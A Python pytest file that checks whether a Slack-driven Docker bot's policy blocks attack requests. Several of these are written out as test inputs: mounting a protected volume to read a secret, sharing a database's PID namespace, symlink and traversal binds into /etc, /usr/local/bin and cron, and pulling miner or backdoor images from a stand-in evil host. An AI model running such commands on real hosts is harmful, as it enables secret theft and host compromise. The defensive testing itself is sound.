"""Real engine: the attacks of tests/test_policy_attack.py leave the engine and the host unchanged.

Per kind, the whole pipeline (parse -> plan -> authorize -> execute) under deploy/policy.yaml
as shipped, asked as the Slack users it names; afterwards the engine is inspected: a marker
file in a protected volume was not read, the volume and the database container are still
there, no container, volume or image appeared, no file was written outside the allowed tree.
Each test makes its own protected volume / container (unique names, removed by `cleanup`).
Run under the e2e lock: `flock /tmp/gorae-e2e.lock .venv/bin/pytest -q -m docker tests/test_policy_attack_engine.py`.
"""
from __future__ import annotations

import dataclasses
import secrets
from pathlib import Path

import pytest

from bot.model import Actor, Request
from bot.pipeline import Gorae
from bot.policy.check import Authorizer
from bot.policy.policyfile import load_policy
from bot.state.audit import AuditLog

pytestmark = pytest.mark.docker

SAMPLE = Path(__file__).resolve().parent.parent / "deploy" / "policy.yaml"
OPS, ONC = "C0123OPS", "C0456ONCALL"
CAROL = Actor("U03CAROL")  # operator + deployer in #ops
PAGER = Actor("U04PAGER", groups=("S0123ONCALL",))  # oncall in #oncall
ALICE = Actor("U01ALICE")  # lead
HANDLE_LEADS = Actor("U05MALLORY", groups=("leads",))  # a Slack group whose handle is `leads`


def _bot(tmp_path: Path, bind_allow: tuple[str, ...] | None = None) -> Gorae:
    policy = load_policy(SAMPLE)
    if bind_allow is not None:
        policy = dataclasses.replace(policy, bind_allow=bind_allow)
    return Gorae(authorizer=Authorizer(policy), audit=AuditLog(tmp_path / "audit.db"))


def _engine(client) -> dict[str, set[str]]:
    """What is on the engine: containers (id and state), volumes, image IDs."""
    return {
        "containers": {f"{c.id}:{c.status}" for c in client.containers.list(all=True)},
        "volumes": {v.name for v in client.volumes.list()},
        "images": {i.id for i in client.images.list()},
    }


def _read_marker(client, volume: str) -> str:
    out = client.containers.run("alpine", ["cat", "/d/marker"], volumes={volume: {"bind": "/d", "mode": "ro"}},
                                remove=True)
    return out.decode().strip()


@pytest.fixture
def protected(world, docker_client, cleanup):
    """A database-like volume `pgdata-…` holding a secret marker, and a running `db-…` container using it."""
    tag = secrets.token_hex(4)
    secret = f"marker-{secrets.token_hex(8)}"
    volume = docker_client.volumes.create(f"pgdata-{tag}")
    cleanup.volume(volume)
    docker_client.containers.run("alpine", ["sh", "-c", f"echo {secret} > /d/marker"],
                                 volumes={volume.name: {"bind": "/d", "mode": "rw"}}, remove=True)
    db = docker_client.containers.run(
        "alpine", ["sh", "-c", f"echo {secret} > /marker; trap 'exit 0' TERM; while sleep 1; do :; done"],
        detach=True, name=f"db-{tag}", volumes={volume.name: {"bind": "/var/lib/data", "mode": "rw"}})
    cleanup.container(db)
    return {"tag": tag, "secret": secret, "volume": volume.name, "db": db.name}


def _said(reply) -> str:
    return " ".join([reply.headline, reply.code or "", *reply.cli, *reply.notes])


def _no_container(client, name: str) -> bool:
    return not any(c.name == name for c in client.containers.list(all=True))


# --------------------------------------------------------------------------- volume


def test_protected_volume_is_neither_read_nor_removed(tmp_path, docker_client, protected):
    bot, vol, secret = _bot(tmp_path), protected["volume"], protected["secret"]
    spy = f"web-atk-{protected['tag']}"
    before = _engine(docker_client)
    for text, actor, channel in [
        (f"docker run --rm --name {spy} -v {vol}:/d nginx cat /d/marker", CAROL, OPS),
        (f"docker run --name {spy} --volume={vol}:/d:ro nginx cat /d/marker", CAROL, OPS),
        (f"{vol} 볼륨을 /d에 마운트해서 {spy}라는 이름으로 nginx 실행", CAROL, OPS),
        (f"docker volume rm {vol}", PAGER, ONC),
        (f"docker volume rm -f {vol}", PAGER, ONC),
        (f"{vol} 볼륨 삭제해줘", PAGER, ONC),
    ]:
        reply = bot.handle(Request(text, actor, channel, source="slack"))
        assert reply.status == "denied", (text, reply)
        assert f"volume {vol}" in reply.headline or f"볼륨 {vol}" in reply.headline, reply.headline
        assert secret not in _said(reply)
    assert _engine(docker_client) == before  # nothing created, nothing removed, nothing started or stopped
    assert _no_container(docker_client, spy)
    assert _read_marker(docker_client, vol) == secret  # the volume is there, untouched


def test_a_lead_mounting_the_volume_needs_someone_else(tmp_path, docker_client, protected):
    bot, vol = _bot(tmp_path), protected["volume"]
    before = _engine(docker_client)
    reply = bot.handle(Request(f"docker run --rm -v {vol}:/d alpine cat /d/marker", ALICE, OPS, source="slack"))
    assert reply.status == "confirm" and reply.approval, reply  # a second lead must approve
    assert protected["secret"] not in _said(reply)
    self_yes = bot.confirm(reply.pending, ALICE, OPS)
    assert self_yes.status == "denied", self_yes
    impostor = bot.confirm(reply.pending, HANDLE_LEADS, OPS)
    assert impostor.status == "denied", impostor
    assert _engine(docker_client) == before


# --------------------------------------------------------------------------- namespace


def test_namespaces_of_the_database_are_not_shared(tmp_path, docker_client, protected):
    bot, db, secret = _bot(tmp_path), protected["db"], protected["secret"]
    spy = f"web-atk-{protected['tag']}"
    state = docker_client.api.inspect_container(db)["State"]
    before = _engine(docker_client)
    for flag in (f"--pid container:{db}", f"--pid=container:{db}", f"--ipc container:{db}",
                 f"--uts=container:{db}", f"--volumes-from {db}"):
        text = f"docker run --rm --name {spy} {flag} nginx cat /proc/1/root/marker"
        reply = bot.handle(Request(text, CAROL, OPS, source="slack"))
        assert reply.status == "denied" and db in reply.headline, (flag, reply)
        assert secret not in _said(reply)
    assert _engine(docker_client) == before and _no_container(docker_client, spy)
    after = docker_client.api.inspect_container(db)["State"]
    assert (after["Running"], after["StartedAt"]) == (state["Running"], state["StartedAt"])


# --------------------------------------------------------------------------- bind


@pytest.fixture
def tree(tmp_path):
    base = tmp_path / "host"
    (base / "allowed" / "data").mkdir(parents=True)
    (base / "outside").mkdir()
    (base / "allowed" / "link").symlink_to(base / "outside")
    (base / "allowed" / "etc-link").symlink_to("/etc")
    return base


def _files(root: Path) -> set[str]:
    return {str(p) for p in root.rglob("*")}


def test_binds_by_real_path_write_nothing_outside(tmp_path, docker_client, world, cleanup, tree):
    allowed = tree / "allowed"
    bot = _bot(tmp_path, bind_allow=(str(allowed),))
    tag = secrets.token_hex(4)
    spy = f"web-atk-{tag}"
    etc_probe = Path("/etc") / f"gorae-atk-{tag}"
    before, files = _engine(docker_client), _files(tree)
    for text, actor in [
        (f"docker run --rm --name {spy} -v {allowed}/link/new:/d nginx touch /d/pwned", CAROL),
        (f"docker run --rm --name {spy} -v {allowed}/link:/d nginx touch /d/pwned", CAROL),
        (f"run nginx named {spy} mounting {allowed}/link/new to /d", CAROL),
        (f"docker run --rm --name {spy} -v {allowed}/data/../../outside:/d nginx touch /d/pwned", CAROL),
        (f"docker run --rm -v {allowed}/etc-link/{etc_probe.name}:/d alpine touch /d/pwned", ALICE),
        ("docker run --rm -v /usr/local/bin:/d alpine touch /d/pwned", ALICE),
        ("docker run --rm -v /var/spool/cron:/d alpine touch /d/pwned", ALICE),
        ("docker run --rm -v ./data:/d alpine touch /d/pwned", ALICE),
        ("docker run --rm -v ~/data:/d alpine touch /d/pwned", ALICE),
    ]:
        reply = bot.handle(Request(text, actor, OPS, source="slack"))
        # a relative or ~ source in typed docker is refused before any plan, with docker's reason (issue 15)
        relative = " ./data:" in text or " ~/data:" in text
        assert reply.status == ("not_understood" if relative else "denied"), (text, reply)
    assert _files(tree) == files  # nothing created under the tree, inside or outside the allowed part
    assert not etc_probe.exists() and not (tree / "outside" / "new").exists()
    assert not Path("/usr/local/bin/pwned").exists() and not Path("/var/spool/cron/pwned").exists()
    assert _engine(docker_client) == before

    # control: the allowed tree itself works, after the deploy rule's yes, and writes only there
    ok = f"web-ok-{tag}"
    cleanup.container(ok)
    ask = bot.handle(Request(f"docker run --rm --name {ok} -v {allowed}/data/new:/d nginx touch /d/made",
                             CAROL, OPS, source="slack"))
    assert ask.status == "confirm", ask
    done = bot.confirm(ask.pending, CAROL, OPS)
    assert done.status == "done", done
    assert (allowed / "data" / "new" / "made").is_file()
    assert _files(tree) - files == {str(allowed / "data" / "new"), str(allowed / "data" / "new" / "made")}


# --------------------------------------------------------------------------- image


def test_images_outside_the_patterns_are_not_pulled_or_run(tmp_path, docker_client, world):
    bot = _bot(tmp_path)
    tag = secrets.token_hex(4)
    before = _engine(docker_client)
    for text, ref in (("docker pull nginx-miner/xmrig", "nginx-miner/xmrig"),
                      ("nginx-miner/xmrig 받아줘", "nginx-miner/xmrig"),
                      ("docker pull nginx.evil.example/backdoor", "nginx.evil.example/backdoor"),
                      (f"docker run -d --name web-atk-{tag} nginx.evil.example/backdoor", "nginx.evil.example/backdoor"),
                      ("docker pull 127.0.0.1:5000/library/postgres", "127.0.0.1:5000/library/postgres"),
                      (f"docker run -d --name web-atk-{tag} postgres", "postgres")):
        reply = bot.handle(Request(text, CAROL, OPS, source="slack"))
        assert reply.status == "denied" and ref in reply.headline, (text, reply)
    assert _engine(docker_client) == before


# --------------------------------------------------------------------------- group


def test_a_slack_group_named_leads_is_not_the_leads(tmp_path, docker_client, protected):
    bot, db, vol = _bot(tmp_path), protected["db"], protected["volume"]
    before = _engine(docker_client)
    for actor in (HANDLE_LEADS, Actor("U05MALLORY", groups=("S0LEADS",))):
        for text in (f"docker rm -f {db}", f"docker volume rm {vol}", f"{db} 강제 삭제해줘"):
            reply = bot.handle(Request(text, actor, OPS, source="slack"))
            assert reply.status == "denied", (actor, text, reply)
            assert reply.pending is None
    assert _engine(docker_client) == before
    assert docker_client.api.inspect_container(db)["State"]["Running"]
    assert _read_marker(docker_client, vol) == protected["secret"]


# --------------------------------------------------------------------------- network


def _networks(client) -> dict[str, frozenset[str]]:
    """Every network on the engine with the IDs of the containers attached to it."""
    return {n.name: frozenset((client.api.inspect_network(n.id).get("Containers") or {}).keys())
            for n in client.networks.list()}


def test_the_databases_network_is_not_attached_connected_or_removed(tmp_path, docker_client, protected, cleanup):
    """The sample policy keeps the databases' network (backend*, db*) from the roles barred from the
    databases: no new container on it, no connect/disconnect, no removal; a lead's connect waits for
    another lead. The network, its members and the rest of the engine are unchanged afterwards."""
    bot, tag = _bot(tmp_path), protected["tag"]
    net = docker_client.networks.create(f"backend-{tag}", driver="bridge")
    cleanup.network(net)
    net.connect(protected["db"])
    spy = f"web-atk-{tag}"
    before, members = _engine(docker_client), _networks(docker_client)
    assert members[net.name] == frozenset({docker_client.containers.get(protected["db"]).id})
    for text, actor, channel in [
        (f"docker run -d --name {spy} --network {net.name} nginx", CAROL, OPS),
        (f"docker run -d --name {spy} --net={net.name} nginx", CAROL, OPS),
        (f"docker create --name {spy} --network={net.name} nginx", CAROL, OPS),
        (f"{net.name} 네트워크에 붙여서 {spy}라는 이름으로 nginx 띄워", CAROL, OPS),
        (f"run nginx named {spy} on network {net.name}", CAROL, OPS),
        (f"docker network rm {net.name}", PAGER, ONC),
        (f"{net.name} 네트워크 삭제해줘", PAGER, ONC),
        (f"docker network disconnect {net.name} {protected['db']}", PAGER, ONC),
        (f"docker network connect {net.name} web", CAROL, OPS),
    ]:
        reply = bot.handle(Request(text, actor, channel, source="slack"))
        assert reply.status == "denied", (text, reply)
        assert net.name in reply.headline, (text, reply.headline)
    reply = bot.handle(Request(f"docker network connect {net.name} web", ALICE, OPS, source="slack"))
    assert reply.status == "confirm" and reply.approval, reply  # another lead must approve
    assert bot.confirm(reply.pending, ALICE, OPS).status == "denied"  # not herself
    assert _engine(docker_client) == before
    assert _networks(docker_client) == members  # the network is there, with the same members only
    assert _no_container(docker_client, spy)
